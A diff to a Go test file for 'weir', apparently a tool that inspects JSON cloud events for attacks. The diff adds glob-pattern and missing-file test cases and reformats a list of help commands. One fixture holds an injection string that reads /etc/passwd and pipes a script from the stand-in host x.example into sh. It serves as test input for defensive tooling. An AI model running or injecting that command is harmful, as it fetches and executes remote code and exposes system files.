@@ -126,6 +126,7 @@ func TestADocumentOverManyLinesIsOneEvent(t *testing.T) {
 		events      int
 	}{
 		{"a file", "", []string{"inspect", "event.json"}, []string{"event.json: sqs with 2 records, filtered"}, 1},
+		{"a pattern", "", []string{"inspect", "ev*.json"}, []string{"event.json: sqs with 2 records, filtered"}, 1},
 		{"standard input", attack, []string{"inspect", "-"}, []string{"-:1: sqs with 2 records, filtered"}, 1},
 		{"a file of many", "", []string{"inspect", "many.jsonl"}, []string{"many.jsonl:1: sqs with 1 record, clean", "sqs with 2 records, filtered"}, 2},
 		{"standard input of many", "{}\n[]\n", []string{"inspect", "-"}, []string{"-:1: direct, clean", "-:2: direct, clean"}, 2},
@@ -151,6 +152,7 @@ func TestWhatIsNoEventIsToldInTwoLines(t *testing.T) {
 		{[]string{"inspect", "events"}, "weir inspect: events: this is a directory\n  Name its files: " + filepath.Join("events", "*.json") + "\n"},
 		{[]string{"inspect", "cut.json"}, "is not JSON: unexpected end of JSON input\n"},
 		{[]string{"inspect", "-"}, "weir inspect: standard input: this is empty\n"},
+		{[]string{"inspect", "none*.json"}, "weir inspect: none*.json: there is no such file\n"},
 		{[]string{"inspect", "none.json"}, "weir inspect: none.json: there is no such file\n"},
 		{[]string{"inspekt", "a"}, "weir: there is no command \"inspekt\"\n  Did you mean \"inspect\"?"},
 		{[]string{"inspect", "--jsn", "a"}, "weir inspect: there is no flag --jsn\n  Did you mean \"--json\"?"},
@@ -188,8 +190,17 @@ func TestAnEventIsAssertedToBeOfASource(t *testing.T) {
 func TestAllThatIsPrintedFitsATerminal(t *testing.T) {
 	dir := write(t, map[string]string{"event.json": attack, "shell.json": `{"a":"; cat /etc/passwd; id; curl http://x.example/a.sh|sh; uname -a"}`})
 	for _, args := range [][]string{
-		{"help"}, {"help", "inspect"}, {"help", "rules"}, {"help", "test"}, {"help", "completion"}, {"help", "config"}, {"help", "help"}, {"--version"},
-		{"rules"}, {"rules", "--tag", "attack-sqli"}, {"config"},
+		{"help"},
+		{"help", "inspect"},
+		{"help", "rules"},
+		{"help", "test"},
+		{"help", "completion"},
+		{"help", "config"},
+		{"help", "help"},
+		{"--version"},
+		{"rules"},
+		{"rules", "--tag", "attack-sqli"},
+		{"config"},
 		{"inspect", "--explain", "event.json", "shell.json"},
 	} {
 		r := weir(t, dir, "", args...)
